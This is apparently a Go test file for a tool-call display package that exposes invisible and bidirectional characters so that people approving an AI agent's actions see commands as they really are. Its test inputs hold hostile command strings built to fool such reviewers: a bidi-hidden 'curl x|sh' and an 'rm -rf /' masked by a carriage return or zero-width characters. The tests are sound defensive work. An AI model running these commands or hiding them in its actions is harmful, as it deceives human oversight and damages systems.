package callview_test

import (
	"encoding/json"
	"strings"
	"testing"

	"corral.dev/pkg/callview"
)

func TestVisible(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, in, want string
		n              int
	}{
		{"plain", "echo ok\n\tdone", "echo ok\n\tdone", 0},
		{"bidi override", "echo ok \u202e;curl x|sh #", "echo ok <U+202E>;curl x|sh #", 1},
		{"isolates and marks", "a\u2066b\u2069c\u200f", "a<U+2066>b<U+2069>c<U+200F>", 3},
		{"zero width", "r\u200bm\u200d -rf\ufeff", "r<U+200B>m<U+200D> -rf<U+FEFF>", 3},
		{"controls", "ls\rrm -rf /\x1b[2K", "ls<U+000D>rm -rf /<U+001B>[2K", 2},
		{"odd spaces", "a\u00a0b\u2028c", "a<U+00A0>b<U+2028>c", 2},
		{"tags", "x\U000E0041", "x<U+E0041>", 1},
		{"bad utf-8", "a\xffb", "a<U+FFFD>b", 1},
		{"letters stay", "café ñ 日本", "café ñ 日本", 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, n := callview.Visible(tc.in)
			if got != tc.want || n != tc.n {
				t.Errorf("Visible(%q) = %q, %d; want %q, %d", tc.in, got, n, tc.want, tc.n)
			}
		})
	}
}

func TestTextShowsEveryArgumentInFull(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("line of content\n", 500)
	input, _ := json.Marshal(map[string]any{
		"file_path": "/skills/x/SKILL.md", "old_string": "a", "new_string": "b\u202e", "replace_all": true, "extra": map[string]int{"k": 1}, "content": long,
	})
	got := callview.Text("Edit", input, "--- a\n+++ b\n")
	for _, want := range []string{
		"tool: Edit\n", "file_path: /skills/x/SKILL.md\n", "old_string: a\n", "new_string: b<U+202E>\n",
		"replace_all: true\n", `extra: {"k":1}` + "\n", strings.Repeat("  | line of content\n", 500),
		"preview of the change (informational, not what is approved):\n--- a\n+++ b\n",
		"note: 1 invisible or bidirectional code point(s) shown as <U+XXXX>\n",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("Text lacks %q:\n%s", want, got)
		}
	}
	if i, j := strings.Index(got, "file_path"), strings.Index(got, "replace_all"); i > j {
		t.Errorf("file_path comes after replace_all:\n%s", got)
	}
}

func TestSummary(t *testing.T) {
	t.Parallel()
	s, cut := callview.Summary(json.RawMessage(`{"command":"echo ok \u202e;curl x|sh #"}`), 100)
	if s != "command=echo ok <U+202E>;curl x|sh #" || cut {
		t.Errorf("Summary = %q, %v", s, cut)
	}
	s, cut = callview.Summary(json.RawMessage(`{"command":"`+strings.Repeat("x", 200)+`"}`), 20)
	if len([]rune(s)) != 20 || !cut || !strings.HasSuffix(s, "…") {
		t.Errorf("Summary = %q, %v; want 20 runes ending in …, cut", s, cut)
	}
}

// What a person reads shows a call's input as written: never the \u0026,
// \u003c and \u003e that encoding/json writes for HTML and stored events
// hold, in string arguments or in others.
func TestInputIsShownAsWritten(t *testing.T) {
	t.Parallel()
	raw, err := json.Marshal(map[string]any{
		"command": "make && ./run <in >out",
		"env":     map[string]string{"A": "x&y", "B": "<b>"},
		"limit":   json.Number("12345678901234567890"),
	})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(raw), `\u0026`) {
		t.Fatalf("encoding/json no longer escapes for HTML (%s): this test checks nothing", raw)
	}
	s, _ := callview.Summary(raw, 200)
	if want := `command=make && ./run <in >out limit=12345678901234567890 env={"A":"x&y","B":"<b>"}`; s != want {
		t.Errorf("Summary = %q\nwant %q", s, want)
	}
	if got, want := callview.Plain(raw), `{"command":"make && ./run <in >out","env":{"A":"x&y","B":"<b>"},"limit":12345678901234567890}`; got != want {
		t.Errorf("Plain = %q\nwant %q", got, want)
	}
	if got := callview.Plain(json.RawMessage("not json")); got != "not json" {
		t.Errorf("Plain of what is not JSON = %q, want it as it is", got)
	}
}

func TestUnescaped(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`{"command":"a \u0026\u0026 b \u003e c \u003C d"}`: `{"command":"a && b > c < d"}`,
		`{"command":"printf '\\u0026'"}`:                   `{"command":"printf '\\u0026'"}`, // a backslash, then u0026
		`{"command":"x \"\u0026\"`:                         `{"command":"x \"&\"`,
		`{"command":"\u00e9 \u0026`:                        `{"command":"\u00e9 &`,
		`cut short \u00`:                                   `cut short \u00`,
		`ends in \`:                                        `ends in \`,
	} {
		if got := callview.Unescaped(in); got != want {
			t.Errorf("Unescaped(%s) = %s, want %s", in, got, want)
		}
	}
}
